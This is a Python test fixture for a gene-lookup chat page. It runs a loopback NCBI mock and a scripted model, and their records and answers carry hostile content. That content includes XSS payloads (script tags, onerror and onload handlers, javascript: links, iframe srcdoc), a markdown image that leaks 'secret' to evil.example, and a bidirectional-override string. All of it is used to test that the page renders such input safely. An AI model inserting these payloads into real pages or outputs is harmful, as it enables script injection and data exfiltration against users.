"""What the tests of the page stand on: settings of servers, and a loopback NCBI whose records are hostile or slow."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final

from loopback import JsonHandler, listening
from shipped_data import give_data

EUTILS: Final = "https://eutils.ncbi.nlm.nih.gov/entrez/eutils"
# What sets ``window.hacked`` in a page that runs any of it.
ATTACK: Final = (
    "<script>window.hacked=1</script> <img src=x onerror=window.hacked=1> <svg onload=window.hacked=1></svg> "
    "[click](javascript:window.hacked=1) ![pixel](https://evil.example/p.png?q=secret) "
    "<a href='javascript:window.hacked=1'>a</a> <iframe srcdoc='<script>parent.hacked=1</script>'></iframe> "
    "<style>body{display:none}</style> [site](https://example.org/page) &#60;script&#62; <https://example.org/auto>"
)
BIDI: Final = "dose \u202e01 gm\u202c of it"


class _Ncbi(JsonHandler):
    """Each term finds gene 1, whose description is an attack; DEAD gets no answer before the test ends.

    SLOW gets its answer after some seconds.
    """

    def answer(self, query: dict[str, str]) -> object:
        if query.get("term") == "DEAD":
            _ended.wait(120)
        if query.get("term") == "SLOW":
            _ended.wait(4)
        return _summary() if "esummary" in self.path else _FOUND


_ended = threading.Event()
_FOUND: Final = {
    "header": {"type": "esearch", "version": "0.3"},
    "esearchresult": {"count": "1", "retmax": "5", "retstart": "0", "idlist": ["1"]},
}


def _summary() -> dict[str, Any]:
    gene = {
        "uid": "1",
        "name": "BAD1",
        "description": f"{ATTACK} {BIDI}",
        "chromosome": "16",
        "maplocation": "16q22.1",
        "otheraliases": "LMP10",
        "organism": {"scientificname": "Homo sapiens", "commonname": "human", "taxid": 9606},
        "summary": ATTACK,
    }
    return {"header": {"type": "esummary", "version": "0.3"}, "result": {"uids": ["1"], "1": gene}}


@contextmanager
def hostile_ncbi() -> Iterator[str]:
    """Its address."""
    with listening(_Ncbi) as url:
        yield url
        _ended.set()


def _table() -> str:
    head = "|".join(f"c{i}" for i in range(60))
    return "\n".join([f"|{head}|", "|" + "-|" * 60, *("|" + "x|" * 60 for _ in range(200))])


# API keys of the guarded server.
KEYS: Final = ("the-first-key-of-the-browser", "the-second-key-of-the-browser")
# What the scripted model writes, by how the sequence so far ends.
SCRIPT: Final = [
    {"suffix": "Question: hostile\nAnswer:", "text": f" {ATTACK}\n\n{BIDI}"},
    {"suffix": "Question: table\nAnswer:", "text": f" {_table()}"},
    {"suffix": "Question: markdown\nAnswer:", "text": " **Bold** and `code`:\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|"},
    {"regex": r"Question: Summarise this text(?s:.*)\nAnswer:$", "text": " The model's summarise."},
    {"regex": r"Question: Explain this text(?s:.*)\nAnswer:$", "text": " The model's explain."},
    {"regex": r"Question: [^\n]*\nAnswer:$", "text": " A plain answer."},
    {"suffix": "Question: dead\n", "text": f"[{EUTILS}/esearch.fcgi?db=gene&term=DEAD]->"},
    {"suffix": "Question: slow\n", "text": f"[{EUTILS}/esearch.fcgi?db=gene&term=SLOW]->"},
    {"suffix": "Question: record\n", "text": f"[{EUTILS}/esearch.fcgi?db=gene&term=BAD1]->"},
    {"regex": r"\[1 id: 1\]\n$", "text": f"[{EUTILS}/esummary.fcgi?db=gene&retmax=5&retmode=json&id=1]->"},
    {"regex": r"BAD1 \(human\)(?s:.*)\]\n$", "text": "Answer: BAD1\n\n"},
]


def scripted_environment(home: Path, ncbi: str) -> dict[str, str]:
    """Settings of a server over the scripted model."""
    (home / "script.json").write_text(json.dumps(SCRIPT))
    return {
        **home_environment(home),
        "ARROWHEAD_MODEL__ENGINE": "scripted",
        "ARROWHEAD_MODEL__SCRIPT": str(home / "script.json"),
        "ARROWHEAD_NCBI__EUTILS_URL": ncbi,
        "ARROWHEAD_NCBI__BLAST_URL": ncbi,
        "ARROWHEAD_SERVER__DRAIN_NOTICE_S": "0",
    }


def home_environment(home: Path) -> dict[str, str]:
    """Settings of a server that keeps all it writes in ``home``."""
    give_data(home / "data" / "arrowhead")
    folders = {f"XDG_{name}_HOME": str(home / name.lower()) for name in ("CONFIG", "DATA", "STATE", "CACHE")}
    return {"HOME": str(home), "OMP_NUM_THREADS": "1", **folders}
